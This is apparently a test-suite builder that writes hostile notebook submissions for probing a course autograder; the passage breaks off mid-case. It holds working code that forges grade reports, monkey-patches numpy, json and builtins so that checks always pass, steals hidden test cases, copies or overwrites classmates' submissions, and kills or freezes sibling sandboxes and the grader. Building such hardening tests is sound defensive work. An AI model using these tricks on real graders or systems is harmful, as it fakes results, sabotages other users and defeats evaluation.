"""Build every hostile submission under $HOSTILE_ROOT/cases/ (run: python3 lib/build_cases.py)."""
import json, os, shutil, sys, random
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from nbgen import *
from snippets import *

ROOT = os.path.join(os.environ["HOSTILE_ROOT"], "cases")
META = {}
ZERO = {k: 0 for k in EXMAX}


def case(name, tries, expect_text, files, submit=None, max_points=None, extra=None, fifos=(),
         symlinks=()):
    """files: {relpath: notebook dict | str | bytes}; relpaths are inside the case folder."""
    d = os.path.join(ROOT, name)
    shutil.rmtree(d, ignore_errors=True)
    os.makedirs(d)
    for rel, content in files.items():
        p = os.path.join(d, rel)
        os.makedirs(os.path.dirname(p), exist_ok=True)
        if isinstance(content, dict):
            save(content, p)
        elif isinstance(content, bytes):
            open(p, "wb").write(content)
        else:
            open(p, "w").write(content)
    mp = dict(ZERO)
    mp.update(max_points or {})
    meta = {"tries": tries, "expect": expect_text, "submit": submit or [name],
            "max_points": mp, "extra": extra or {}, "fifos": list(fifos),
            "symlinks": [list(s) for s in symlinks]}
    META[name] = meta
    with open(os.path.join(d, "ATTACK.md"), "w") as f:
        f.write(f"# {name}\n\n**What it tries.** {tries}\n\n**What a correct grader must do.** "
                f"{expect_text}\n\nAlways, in addition: exit status 0; every submitted row present "
                f"in grades.csv and grades.json; the honest rows (honest_empty, honest_partial) "
                f"get exactly the points they get when graded alone; no process left running; "
                f"nothing written outside the output folder; the run finishes.\n\n"
                f"Machine-checked limits for this case's row(s): `{json.dumps(mp)}`"
                + (f"; extra checks `{json.dumps(meta['extra'])}`" if extra else "") + "\n")


def nb_with_setup(ch, code, stub_funcs=True, funcs=None):
    nb = starter(ch)
    add_setup(nb, code)
    for fn, src in (funcs or {}).items():
        set_exercise(nb, fn, src)
    return nb


def lse_stub_nb(setup_code, func_src=None):
    """chapter 02 notebook: a setup cell with the attack, logsumexp replaced by func_src."""
    nb = starter("02")
    add_setup(nb, setup_code)
    set_exercise(nb, "logsumexp", func_src or
                 "def logsumexp(a, axis=None):\n    a = np.asarray(a, dtype=float)\n"
                 "    return 0.0 if axis is None else np.zeros(np.delete(a.shape, axis))\n")
    return nb


def ch_stub(ch, fn, src, setup=None):
    nb = starter(ch)
    if setup:
        add_setup(nb, setup)
    set_exercise(nb, fn, src)
    return nb


STUB_LGP = "def log_gaussian_pdf(X, mean, cov):\n    return np.zeros(np.atleast_2d(X).shape[0])\n"
STUB_ELL = "def ellipse_params(mean, cov, n_std=2.0):\n    return 1.0, 1.0, 0.0\n"
STUB_NPAR = "def n_parameters(n_components, n_features, covariance_type='full'):\n    return 0\n"
STUB_BICAIC = ("def bic(log_likelihood, n_params, n_samples):\n    return 0.0\n\n"
               "def aic(log_likelihood, n_params):\n    return 0.0\n")


def stub_folder(setup_for_02, extra_setup_all=None):
    """A folder submission: 01, 02, 07 with stubs; the attack in 02's setup."""
    f = {}
    nb = starter("01"); set_exercise(nb, "log_gaussian_pdf", STUB_LGP); set_exercise(nb, "ellipse_params", STUB_ELL)
    if extra_setup_all: add_setup(nb, extra_setup_all)
    f["01_gaussian.ipynb"] = nb
    f["02_logsumexp.ipynb"] = lse_stub_nb(setup_for_02)
    nb = starter("07"); set_exercise(nb, "n_parameters", STUB_NPAR); set_exercise(nb, "bic", STUB_BICAIC)
    if extra_setup_all: add_setup(nb, extra_setup_all)
    f["07_model_selection.ipynb"] = nb
    return f


Z = "0 points on every exercise"

# ---------------------------------------------------------------- 1. forging the report
case("fd4_forge_exit",
     "Writes full-marks `result` events for all 11 exercises plus `done` straight into the "
     "report pipe (fd number taken from sys.argv[-1]), then os._exit(0) so nothing real is sent.",
     Z + "; forged events ignored (a report must not be writable by student code).",
     stub_folder(FORGE_LINES + "import os, sys\nos.write(int(sys.argv[-1]), forged_lines())\nos._exit(0)\n"))

case("fd4_forge_continue",
     "Writes forged full-marks results (no `done`) into the report pipe from a setup cell, then "
     "lets grading run normally on stubs: does the first or the last result per exercise win?",
     Z + ".",
     stub_folder(FORGE_LINES + "import os, sys\nos.write(int(sys.argv[-1]), forged_lines().rsplit(b'\\n', 2)[0] + b'\\n')\n"))

case("fd4_mitm_rewrite",
     "Man-in-the-middle on the report pipe: dup2 a private pipe onto fd 4, a thread rewrites every "
     "`result` event to status correct / points = max_points and adds the missing exercises before `done`.",
     Z + ".",
     stub_folder(FORGE_LINES + r'''
import os, sys, threading, json
_fd = int(sys.argv[-1]); _real = os.dup(_fd); _r, _w = os.pipe(); os.dup2(_w, _fd); os.close(_w)
def _pump():
    buf = b""; seen = set()
    while True:
        b = os.read(_r, 65536)
        if not b: break
        buf += b
        while b"\n" in buf:
            line, buf = buf.split(b"\n", 1)
            try: ev = json.loads(line)
            except Exception: os.write(_real, line + b"\n"); continue
            if ev.get("event") == "result":
                ev.update(status="correct", points=ev.get("max_points", 3.0), feedback=""); seen.add(ev["exercise"])
            if ev.get("event") == "done":
                for l in forged_lines().split(b"\n"):
                    if l and json.loads(l).get("event") == "result" and json.loads(l)["exercise"] not in seen:
                        os.write(_real, l + b"\n")
            os.write(_real, (json.dumps(ev) + "\n").encode())
threading.Thread(target=_pump, daemon=False).start()
'''))

case("fd4_fork_after_done",
     "Forks a child that inherits the report pipe, waits until the sandbox has sent `done`, then "
     "writes forged full-marks results (and a second `done`).",
     Z + "; events after `done` ignored; the forked child does not outlive the run.",
     stub_folder(FORGE_LINES + r'''
import os, sys, time
_fd = int(sys.argv[-1])
if os.fork() == 0:
    os.setsid()
    try:
        pp = os.getppid()
        while os.path.exists(f"/proc/{pp}") and open(f"/proc/{pp}/stat").read().split()[2] not in "ZX": time.sleep(0.05)
        os.write(_fd, forged_lines())
    finally:
        os._exit(0)
'''))

case("stdout_forge",
     "Prints forged report lines (JSON events, a fake CSV row and a fake `Total: 26 / 26`) to "
     "stdout and stderr, which go to the grader's output.log.",
     Z + "; nothing printed reaches the gradebook.",
     stub_folder(FORGE_LINES + r'''
import sys
sys.stdout.write(forged_lines().decode()); sys.stderr.write(forged_lines().decode())
print("stdout_forge,3,2,3,3,3,3,2,3,2,1,1,26,26,")
print("**Total: 26 / 26 points**")
'''))

case("json_dumps_patch",
     "Monkey-patches json.dumps/json.dump (what the sandbox uses to encode events) so every dict "
     "with points/max_points is rewritten to full marks and status correct.",
     Z + ".",
     stub_folder(r'''
import json
_orig = json.dumps
def _dumps(obj, *a, **k):
    if isinstance(obj, dict) and "points" in obj and "max_points" in obj:
        obj = dict(obj, points=obj["max_points"], status="correct", feedback="")
    return _orig(obj, *a, **k)
json.dumps = _dumps
import json.encoder
_enc = json.JSONEncoder.encode
def _encode(self, obj):
    if isinstance(obj, dict) and "points" in obj and "max_points" in obj:
        obj = dict(obj, points=obj["max_points"], status="correct", feedback="")
    return _enc(self, obj)
json.JSONEncoder.encode = _encode
'''))

case("os_write_patch",
     "Monkey-patches os.write, io writes and file objects for the report descriptor so every "
     "`result` line is rewritten to full marks on its way out.",
     Z + ".",
     stub_folder(r'''
import os, re, sys, builtins, io
_w = os.write
def _write(fd, data):
    try:
        s = bytes(data).decode()
        s = re.sub(r'"status": "[a-z ]+", "points": [0-9.]+, "max_points": ([0-9.]+)', r'"status": "correct", "points": \1, "max_points": \1', s)
        data = s.encode()
    except Exception: pass
    return _w(fd, data)
os.write = _write
_fdopen = os.fdopen
def _fdopen2(fd, *a, **k):
    f = _fdopen(fd, *a, **k)
    class W:
        def __init__(s, f): s.f = f
        def write(s, x):
            if isinstance(x, str):
                x = re.sub(r'"status": "[a-z ]+", "points": [0-9.]+, "max_points": ([0-9.]+)', r'"status": "correct", "points": \1, "max_points": \1', x)
            return s.f.write(x)
        def __getattr__(s, n): return getattr(s.f, n)
    return W(f)
os.fdopen = _fdopen2
'''))

case("gc_rewrite_results",
     "A background thread walks gc.get_objects() every few ms and sets points = max_points and "
     "status = 'correct' on every dict or object (e.g. CheckResult) that carries those fields.",
     Z + ".",
     stub_folder(r'''
import gc, threading, time
def _fix():
    while True:
        for o in gc.get_objects():
            try:
                if isinstance(o, dict) and "points" in o and "max_points" in o:
                    o["points"] = o["max_points"]; o["status"] = "correct"
                elif hasattr(o, "__dict__") and "max_points" in vars(o) and "points" in vars(o):
                    vars(o)["points"] = vars(o)["max_points"]
                    if "status" in vars(o): vars(o)["status"] = "correct"
            except Exception:
                pass
        time.sleep(0.002)
threading.Thread(target=_fix, daemon=True).start()
'''))

FLOAT_LIAR = r'''
class F(float):
    def __eq__(self, o): return True
    def __ne__(self, o): return False
    def __sub__(self, o): return F(0.0)
    def __rsub__(self, o): return F(0.0)
    def __abs__(self): return F(0.0)
    def __lt__(self, o): return True
    def __le__(self, o): return True
    def __gt__(self, o): return False
    def __ge__(self, o): return True
    def __hash__(self): return 0
def bic(log_likelihood, n_params, n_samples):
    return F(0.0)
def aic(log_likelihood, n_params):
    return F(0.0)
'''
# ---------------------------------------------------------------- 2. monkey-patching checks
PATCH_NP = r'''
import numpy as np, numpy.testing as npt
_true = lambda *a, **k: True
np.allclose = _true; np.array_equal = _true; np.array_equiv = _true
np.isclose = lambda a, b, *x, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)
for n in dir(npt):
    if n.startswith("assert"): setattr(npt, n, lambda *a, **k: None)
np.isnan = lambda x, *a, **k: np.zeros(np.shape(x), dtype=bool)
np.isfinite = lambda x, *a, **k: np.ones(np.shape(x), dtype=bool)
import math
math.isclose = _true
'''
case("patch_numpy_compare",
     "Monkey-patches np.allclose / np.isclose / np.array_equal / np.testing.assert_* / np.isnan / "
     "np.isfinite / math.isclose to always agree, then submits stubs returning zeros.",
     Z + ".", stub_folder(PATCH_NP))

case("patch_harness_close",
     "Replaces gmmlab.exercises.harness.close (named in the instructor guide) by `lambda *a, **k: True` "
     "in the harness and in every gmmlab.exercises.* module that imported it; stubs return zeros.",
     Z + ".",
     stub_folder(r'''
import sys, gmmlab.exercises.harness as H
for name, m in list(sys.modules.items()):
    if name.startswith("gmmlab") and m is not None:
        for attr in ("close", "allclose", "isclose", "approx", "near"):
            if callable(getattr(m, attr, None)):
                setattr(m, attr, lambda *a, **k: True)
'''))

case("patch_parts_empty",
     "Sets PARTS = () and HIDDEN_CASES = () and run_hidden = no-op in every exercise module of "
     "gmmlab.exercises (the answer-key structure described in the instructor guide).",
     Z + " (an exercise with no checks left must not count as correct).",
     stub_folder(r'''
import sys, importlib, pkgutil, gmmlab.exercises as E
for mi in pkgutil.iter_modules(E.__path__):
    try: m = importlib.import_module("gmmlab.exercises." + mi.name)
    except Exception: continue
    if hasattr(m, "PARTS"):
        m.PARTS = (); m.HIDDEN_CASES = (); m.run_hidden = lambda *a, **k: None
'''))

case("patch_mistake_and_runner",
     "Replaces Mistake (verdict) in every module by a BaseException subclass, and wraps every "
     "function of gmmlab.exercises.runner/harness so exceptions are swallowed and checks look passed.",
     Z + "; row present.",
     stub_folder(r'''
import sys, types, functools
class Mistake(BaseException):
    pass
for name, m in list(sys.modules.items()):
    if name.startswith("gmmlab.exercises") and m is not None and hasattr(m, "Mistake"):
        m.Mistake = Mistake
def _swallow(f):
    @functools.wraps(f)
    def g(*a, **k):
        try: return f(*a, **k)
        except BaseException: return None
    return g
for modname in ("gmmlab.exercises.harness",):
    m = sys.modules.get(modname)
    for n, v in list(vars(m).items()):
        if isinstance(v, types.FunctionType) and v.__module__ == modname:
            setattr(m, n, _swallow(v))
'''))

case("patch_builtins",
     "Replaces builtins abs, float, isinstance, len, round, min, max, all, any by liars "
     "(isinstance always True, all() always True, abs() always 0 ...).",
     Z + "; row present; the honest neighbours unaffected.",
     stub_folder(r'''
import builtins
_isinst = builtins.isinstance; _abs = builtins.abs; _all = builtins.all
builtins.isinstance = lambda o, t: True
builtins.all = lambda it: True
builtins.any = lambda it: False
builtins.abs = lambda x: 0 * x if hasattr(x, "__mul__") else 0
'''))

case("patch_scipy_reference",
     "The independent reference answers use SciPy: replace scipy.special.logsumexp, "
     "scipy.stats.multivariate_normal.logpdf and friends by functions returning 0 so that "
     "the reference agrees with stubs returning 0.",
     Z + ".",
     stub_folder(r'''
import numpy as np, scipy.special, scipy.stats, scipy.linalg, sys
def _zero_like_lse(a, axis=None, *x, **k):
    a = np.asarray(a, dtype=float)
    return 0.0 if axis is None else np.zeros(np.delete(a.shape, axis))
scipy.special.logsumexp = _zero_like_lse
class _MVN:
    def __call__(self, *a, **k): return self
    def logpdf(self, X, *a, **k): return np.zeros(np.atleast_2d(X).shape[0])
    def __getattr__(self, n): return lambda *a, **k: 0.0
scipy.stats.multivariate_normal = _MVN()
for name, m in list(sys.modules.items()):
    if name.startswith("gmmlab") and m is not None:
        if hasattr(m, "logsumexp"): m.logsumexp = _zero_like_lse
        if hasattr(m, "multivariate_normal"): m.multivariate_normal = _MVN()
'''))

case("lying_ndarray",
     "logsumexp returns an ndarray subclass whose comparisons, subtraction, abs and __array_ufunc__ "
     "all report 'equal' (== True everywhere, a - b == 0, isclose True); bic/aic return a float "
     "subclass (passes isinstance(x, float)) whose ==, -, abs, < lie.",
     Z + ".",
     stub_folder("", None) | {"07_model_selection.ipynb": ch_stub("07", "bic", FLOAT_LIAR), "02_logsumexp.ipynb": lse_stub_nb("", r'''
class Liar(np.ndarray):
    def __array_ufunc__(self, ufunc, method, *inputs, **kw):
        shape = np.broadcast(*[np.asarray(x).view(np.ndarray) if isinstance(x, np.ndarray) else np.asarray(x) for x in inputs if not isinstance(x, dict)]).shape
        if ufunc in (np.equal, np.less_equal, np.greater_equal, np.isclose if hasattr(np, 'isclose') else np.equal, np.isfinite, np.logical_and, np.logical_or):
            return np.ones(shape, dtype=bool)
        if ufunc in (np.not_equal, np.less, np.greater, np.isnan, np.isinf):
            return np.zeros(shape, dtype=bool)
        return np.zeros(shape).view(Liar)
    def __eq__(self, o): return True
    def __ne__(self, o): return False
    def __bool__(self): return True
    def __float__(self): return 0.0
def logsumexp(a, axis=None):
    a = np.asarray(a, dtype=float)
    shape = () if axis is None else tuple(np.delete(a.shape, axis))
    return np.zeros(shape).view(Liar)
''')})

case("lying_object_frames",
     "Returns a non-array object whose __array__, __float__, __eq__, __len__, __getitem__ and "
     "__iter__ lie; __array__/__float__ walk the caller's frames (sys._getframe, inspect, gc.get_referrers) "
     "and return any local that looks like the expected answer (names expected/want/ref/reference/truth).",
     Z + ".",
     {"02_logsumexp.ipynb": lse_stub_nb("", r'''
import sys, inspect, gc
KEYS = ("expected", "want", "ref", "reference", "truth", "target", "answer", "exp", "correct", "wanted")
def _steal():
    f = sys._getframe(2)
    while f is not None:
        for k, v in list(f.f_locals.items()):
            if any(x in k.lower() for x in KEYS) and not callable(v) and not isinstance(v, Liar):
                return v
        f = f.f_back
    return None
class Liar:
    def __init__(self, shape): self.shape = shape; self.ndim = len(shape); self.dtype = np.dtype(float)
    def __array__(self, dtype=None, copy=None):
        v = _steal()
        return np.asarray(v if v is not None else np.zeros(self.shape), dtype=dtype)
    def __float__(self):
        v = _steal(); return float(v) if v is not None else 0.0
    def __eq__(self, o): return True
    def __ne__(self, o): return False
    def __len__(self): return self.shape[0] if self.shape else 1
    def __getitem__(self, i): return self
    def __iter__(self): return iter([self] * len(self))
    def __sub__(self, o): return np.zeros(np.shape(o))
    __rsub__ = __sub__
    def __abs__(self): return 0.0
    def __lt__(self, o): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __bool__(self): return True
def logsumexp(a, axis=None):
    a = np.asarray(a, dtype=float)
    return Liar(() if axis is None else tuple(np.delete(a.shape, axis)))
''')})

case("input_mutation",
     "logsumexp overwrites the caller's input array with zeros and returns log(count): if the "
     "checker computes the expected value from the same array afterwards, it matches.",
     Z + " for logsumexp.",
     {"02_logsumexp.ipynb": lse_stub_nb("", r'''
def logsumexp(a, axis=None):
    arr = np.asarray(a)
    try:
        arr.setflags(write=True)
    except Exception:
        pass
    try:
        arr[...] = 0.0
    except Exception:
        pass
    n = arr.size if axis is None else arr.shape[axis]
    if axis is None:
        return float(np.log(n))
    return np.full(np.delete(arr.shape, axis), np.log(n))
''')})

# ---------------------------------------------------------------- 3. using internals / answer keys
DELEGATE = r'''
import sys, importlib, pkgutil, gmmlab, gmmlab.numerics as N
_found = {}
for mi in pkgutil.walk_packages(N.__path__, "gmmlab.numerics."):
    try: m = importlib.import_module(mi.name)
    except Exception: continue
    for n, v in vars(m).items():
        if callable(v) and not n.startswith("__"):
            _found.setdefault(n, v)
import gmmlab.exercises.reference as R
for n, v in vars(R).items():
    if callable(v): _found.setdefault("ref_" + n, v)
def _pick(*words):
    for n, v in _found.items():
        if all(w in n.lower() for w in words): return v
'''
case("delegate_to_gmmlab_numerics",
     "Does no work: every exercise calls the course package's own implementation "
     "(gmmlab.numerics.* walked at run time: logsumexp, log-densities, BIC, AIC, parameter counts, ellipses).",
     Z + " (the NumPy-only / own-work rule must catch calls into gmmlab).",
     {"02_logsumexp.ipynb": lse_stub_nb(DELEGATE, "_f = _pick('logsumexp')\ndef logsumexp(a, axis=None):\n    r = _f(a, axis=axis)\n    return float(r) if axis is None else r\n"),
      "07_model_selection.ipynb": (lambda nb: (add_setup(nb, DELEGATE), set_exercise(nb, "n_parameters", "_np_ = _pick('param')\ndef n_parameters(n_components, n_features, covariance_type='full'):\n    return int(_np_(n_components, n_features, covariance_type))\n"), set_exercise(nb, "bic", "_b = _pick('bic')\n_a = _pick('aic')\ndef bic(log_likelihood, n_params, n_samples):\n    return float(_b(log_likelihood, n_params, n_samples))\n\ndef aic(log_likelihood, n_params):\n    return float(_a(log_likelihood, n_params))\n"), nb)[-1])(starter("07")),
      "01_gaussian.ipynb": (lambda nb: (add_setup(nb, DELEGATE), set_exercise(nb, "ellipse_params", "_e = _pick('ellipse')\ndef ellipse_params(mean, cov, n_std=2.0):\n    return tuple(float(x) for x in _e(mean, cov, n_std))\n"), nb)[-1])(starter("01"))})

case("hidden_cases_leak",
     "Imports every gmmlab.exercises.* module, collects HIDDEN_CASES, MUTANTS and the reference "
     "answers, and raises them in an exception message so that they land in the feedback file "
     "handed back to the student (and in grades.csv).",
     Z + "; the feedback and the CSV must not contain the hidden cases (marker HIDDEN_LEAK followed by their repr).",
     {"02_logsumexp.ipynb": lse_stub_nb(r'''
import importlib, pkgutil, gmmlab.exercises as E
leak = {}
for mi in pkgutil.iter_modules(E.__path__):
    try: m = importlib.import_module("gmmlab.exercises." + mi.name)
    except Exception: continue
    if getattr(m, "HIDDEN_CASES", None): leak[mi.name] = m.HIDDEN_CASES
raise RuntimeError("HIDDEN_LEAK " + repr(leak)[:3000])
''')},
     extra={"leak_marker": "HIDDEN_LEAK {'"})

case("scipy_direct",
     "Uses scipy.special.logsumexp and scipy.stats.multivariate_normal.logpdf directly, which the "
     "starter forbids (NumPy only).",
     "0 points for logsumexp and log_gaussian_pdf (a forbidden library is used).",
     {"02_logsumexp.ipynb": lse_stub_nb("", "from scipy.special import logsumexp as _l\ndef logsumexp(a, axis=None):\n    r = _l(a, axis=axis)\n    return float(r) if axis is None else r\n"),
      "01_gaussian.ipynb": ch_stub("01", "log_gaussian_pdf", "from scipy.stats import multivariate_normal as _mvn\ndef log_gaussian_pdf(X, mean, cov):\n    return np.atleast_1d(_mvn(mean, cov).logpdf(np.atleast_2d(X)))\n")})

case("scipy_obfuscated",
     "Same as scipy_direct but hidden from static checks and run-time tracing: the SciPy functions "
     "are fetched in a setup cell through __import__ of built-up strings, bound as default arguments, "
     "and sys.settrace/sys.setprofile/threading.setprofile are disabled and sys.modules entries hidden.",
     "0 points for logsumexp and log_gaussian_pdf.",
     {"02_logsumexp.ipynb": lse_stub_nb(r'''
import sys, threading
_S = getattr(__import__("sc" + "ipy.spe" + "cial", fromlist=["x"]), "log" + "sum" + "exp")
sys.settrace = lambda *a, **k: None; sys.setprofile = lambda *a, **k: None
threading.settrace = lambda *a, **k: None; threading.setprofile = lambda *a, **k: None
''', "def logsumexp(a, axis=None, _s=_S):\n    r = _s(a, axis=axis)\n    return float(r) if axis is None else r\n"),
      "01_gaussian.ipynb": ch_stub("01", "log_gaussian_pdf", "def log_gaussian_pdf(X, mean, cov, _m=_M):\n    return np.atleast_1d(_m(mean, cov).logpdf(np.atleast_2d(X)))\n",
                                   setup="import sys\n_M = getattr(__import__('sc'+'ipy.st'+'ats', fromlist=['x']), 'multivariate' + '_normal')\nsys.settrace = lambda *a, **k: None; sys.setprofile = lambda *a, **k: None\n")})

case("sklearn_internals",
     "log_gaussian_pdf through scikit-learn's private _estimate_log_gaussian_prob (not NumPy-only, "
     "not the student's work), fetched via getattr at setup.",
     "0 points for log_gaussian_pdf.",
     {"01_gaussian.ipynb": ch_stub("01", "log_gaussian_pdf", r'''
def log_gaussian_pdf(X, mean, cov, _g=_G, _c=_C):
    X = np.atleast_2d(np.asarray(X, dtype=float))
    prec = _c(np.asarray(cov, dtype=float)[None], "full")
    return _g(X, np.asarray(mean, dtype=float)[None], prec, "full")[:, 0]
''', setup="import importlib\n_m = importlib.import_module('sklearn.mixture._gaussian_mixture')\n_G = _m._estimate_log_gaussian_prob\n_C = _m._compute_precision_cholesky\n")})

case("sys_modules_none",
     "Sets sys.modules entries of scipy, scipy.special, scipy.stats and gmmlab.exercises.reference to "
     "None (ImportError for lazy imports of the checker) and installs a meta_path finder that serves "
     "an empty fake module for any later gmmlab/scipy import.",
     Z + "; row present.",
     stub_folder(r'''
import sys, types, importlib.abc, importlib.machinery
for n in ("scipy.special", "scipy.stats", "gmmlab.exercises.reference", "scipy.linalg"):
    sys.modules[n] = None
class _Fake(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        if name.startswith(("gmmlab.exercises", "scipy", "sklearn")):
            return importlib.machinery.ModuleSpec(name, self)
    def create_module(self, spec): return types.ModuleType(spec.name)
    def exec_module(self, m): m.__getattr__ = lambda n: (lambda *a, **k: True)
sys.meta_path.insert(0, _Fake())
'''))

case("extra_files_shadow",
     "The submission folder also holds numpy.py, scipy/__init__.py, gmmlab/__init__.py and a "
     "sitecustomize.py that forge results; if the copied folder lands on sys.path, they may be "
     "imported instead of the real packages.",
     Z + ".",
     stub_folder("") | {"numpy.py": "raise SystemExit('shadowed numpy')\n",
                        "scipy/__init__.py": "allclose = lambda *a, **k: True\n",
                        "gmmlab/__init__.py": "raise SystemExit('shadow gmmlab')\n",
                        "sitecustomize.py": "import os; open('/tmp/ga_pwned_extra_files_shadow', 'w').write('x')\n",
                        "usercustomize.py": "import os; open('/tmp/ga_pwned_extra_files_shadow', 'w').write('x')\n"})

case("rule_evasion_loop_logdet",
     "A correct log_gaussian_pdf that breaks both code rules but hides it from a source reader: "
     "the Python loop over samples and the log(det) live in a string run with exec/getattr.",
     "log_gaussian_pdf at most 1 point (each rule broken costs 1).",
     {"01_gaussian.ipynb": ch_stub("01", "log_gaussian_pdf", r'''
_SRC = "def _inner(X, mean, cov):\n    inv = np.linalg.inv(cov)\n    ld = np.log(getattr(np.linalg, 'd' + 'et')(cov))\n    d = X.shape[1]\n    out = []\n    for x in X:\n        r = x - mean\n        out.append(-0.5 * (d * np.log(2 * np.pi) + ld + r @ inv @ r))\n    return np.array(out)\n"
_ns = {"np": np}
exec(_SRC, _ns)
def log_gaussian_pdf(X, mean, cov):
    return _ns["_inner"](np.atleast_2d(np.asarray(X, dtype=float)), np.asarray(mean, float), np.asarray(cov, float))
''')}, max_points={"log_gaussian_pdf": 1})

# ---------------------------------------------------------------- 4. neighbours
SIB = FIND_SIBLINGS
case("read_neighbour_submissions",
     "Reads the other submissions from the paths in /proc/<ppid>/cmdline, executes honest_partial's "
     "exercise cells and re-exports its functions as its own (copying a classmate at grading time).",
     Z + " (the case itself did no work; isolation should stop reading other submissions).",
     {"02_logsumexp.ipynb": lse_stub_nb(SIB + r'''
import json, glob
import numpy as np
_stolen = {"np": np}
for p in submission_paths():
    for nbp in sorted(glob.glob(os.path.join(p, "*.ipynb"))):
        try:
            nbj = json.load(open(nbp))
            for c in nbj["cells"]:
                if c["cell_type"] == "code" and "exercise" in c["metadata"].get("tags", []):
                    s = "".join(c["source"])
                    if "NotImplementedError" not in s:
                        try: exec(s, _stolen)
                        except Exception: pass
        except Exception: pass
''', "def logsumexp(a, axis=None):\n    return _stolen['logsumexp'](a, axis)\n"),
      "01_gaussian.ipynb": ch_stub("01", "log_gaussian_pdf", "import glob, json, os\n_st = {}\nfor _p in open(f'/proc/{os.getppid()}/cmdline').read().split('\\0'):\n    for _n in glob.glob(os.path.join(os.readlink(f'/proc/{os.getppid()}/cwd'), _p, '01_*.ipynb')):\n        for _c in json.load(open(_n))['cells']:\n            if 'exercise' in _c['metadata'].get('tags', []):\n                try: exec(''.join(_c['source']), {'np': np}, _st)\n                except Exception: pass\nlog_gaussian_pdf = _st.get('log_gaussian_pdf')\nellipse_params = _st.get('ellipse_params')\n")})

case("overwrite_neighbour_source",
     "Overwrites the other submissions' notebooks on disk (paths from /proc/<ppid>/cmdline) with "
     "empty notebooks before they are graded (they are queued after this one).",
     Z + "; honest neighbours keep their points; submissions never modified.",
     {"02_logsumexp.ipynb": lse_stub_nb(SIB + r"""
import glob
for p in submission_paths():
    if os.path.basename(p.rstrip("/")) == "overwrite_neighbour_source": continue
    for f in glob.glob(os.path.join(p, "*.ipynb")) + glob.glob(os.path.join(p, "*.md")) + ([p] if p.endswith(".ipynb") else []):
        try: open(f, "w").write('{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}')
        except Exception: pass
""")})

case("spec_tamper_sibling",
     "A detached helper (fork + setsid, outlives the 20 s cell limit) watches /tmp/gmmlab-grade-*/spec.json "
     "of the other sandboxes of its grading run for 75 s and rewrites every cell of theirs to "
     "`raise SystemExit` (and truncates the files of their work/ copy).",
     Z + "; honest neighbours keep their points; nothing left running.",
     {"02_logsumexp.ipynb": lse_stub_nb(SIB + r"""
import glob, json
_mine = os.path.dirname(sys.argv[-2])
_names = {os.path.basename(p.rstrip("/")) for p in submission_paths()} - {"spec_tamper_sibling"}
_done = set()
""" + detach(r"""
    for spec in glob.glob("/tmp/gmmlab-grade-*/spec.json"):
        d = os.path.dirname(spec)
        if d == _mine or spec in _done: continue
        try:
            if not set(os.listdir(os.path.join(d, "work"))) & _names: continue
            s = json.load(open(spec))
            for nbk in s.get("notebooks", []):
                nbk["cells"] = ["raise SystemExit(0)" for _ in nbk.get("cells", [])]
            open(spec, "w").write(json.dumps(s)); _done.add(spec)
            for f in glob.glob(os.path.join(d, "work", "*", "*")):
                try: open(f, "w").close()
                except Exception: pass
        except Exception: pass
"""))}, extra={"exclusive": True})

case("sibling_kill",
     "A detached helper SIGKILLs, for 75 s, every other sandbox process of its grading run "
     "(classmates graded in parallel with --jobs 2).",
     Z + "; honest neighbours keep their points; nothing left running.",
     {"02_logsumexp.ipynb": lse_stub_nb(SIB + "import signal\n" + detach(r"""
    for p in sibling_sandboxes():
        try: os.kill(p, signal.SIGKILL)
        except Exception: pass
"""))})

case("sibling_stop",
     "A detached helper SIGSTOPs, for 75 s, every other sandbox of its grading run so that the "
     "classmates hit their time limit.",
     Z + "; honest neighbours keep their points; nothing left running.",
     {"02_logsumexp.ipynb": lse_stub_nb(SIB + "import signal\n" + detach(r"""
    for p in sibling_sandboxes():
        try: os.kill(p, signal.SIGSTOP)
        except Exception: pass
"""))})

case("sibling_fd_inject",
     "Writes forged full marks into its own report pipe, then a detached helper opens "
     "/proc/<sibling>/fd/N (the report pipe of every other sandbox of the run) and writes "
     "zero-point results and `done` into it.",
     Z + "; honest neighbours keep their points.",
     {"02_logsumexp.ipynb": lse_stub_nb(SIB + FORGE_LINES + r"""
import json
_bad = "".join(json.dumps({"event": "result", "exercise": ex, "status": "incorrect", "points": 0.0, "max_points": float(mx), "feedback": "forged by a classmate"}) + "\n" for ex, mx in EXMAX.items()) + json.dumps({"event": "done"}) + "\n"
_hit = set()
os.write(int(sys.argv[-1]), forged_lines())
""" + detach(r"""
    for p in sibling_sandboxes():
        if p in _hit: continue
        try:
            for fd in os.listdir(f"/proc/{p}/fd"):
                if os.readlink(f"/proc/{p}/fd/{fd}").startswith("pipe:") and int(fd) > 2:
                    w = os.open(f"/proc/{p}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
                    os.write(w, _bad.encode()); os.close(w); _hit.add(p)
        except Exception: pass
"""))})

case("parent_fd_steal",
     "A detached helper opens the grader's own pipe ends through /proc/<grader>/fd/* and reads "
     "every pipe for 75 s, stealing the report events of the other sandboxes.",
     Z + "; honest neighbours keep their points; no row lost.",
     {"02_logsumexp.ipynb": lse_stub_nb(SIB + r"""
import threading
_seen = set()
def _drain(path):
    try:
        fd = os.open(path, os.O_RDONLY)
        while os.read(fd, 65536): pass
    except Exception: pass
""" + detach(r"""
    try:
        for fd in os.listdir(f"/proc/{_GRADER}/fd"):
            try: tgt = os.readlink(f"/proc/{_GRADER}/fd/{fd}")
            except Exception: continue
            if tgt.startswith("pipe:") and tgt not in _seen:
                _seen.add(tgt); threading.Thread(target=_drain, args=(f"/proc/{_GRADER}/fd/{fd}",), daemon=True).start()
    except Exception: pass
"""))})

# ---------------------------------------------------------------- 5. the parent, the gradebook, leftovers
case("parent_sigstop",
     "SIGSTOPs the grader (its parent) and exits: the whole grading run freezes.",
     "The run still finishes with every row (e.g. sandboxes in their own session, or a watchdog); "
     "realistically the grader cannot ignore SIGSTOP, so this records a denial of service.",
     {"02_logsumexp.ipynb": lse_stub_nb("import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)\n")})

case("parent_sigkill",
     "SIGKILLs the grader (its parent) from a setup cell.",
     "The run still produces grades.csv with every row (it cannot, unless the sandbox cannot signal "
     "the grader); records a denial of service.",
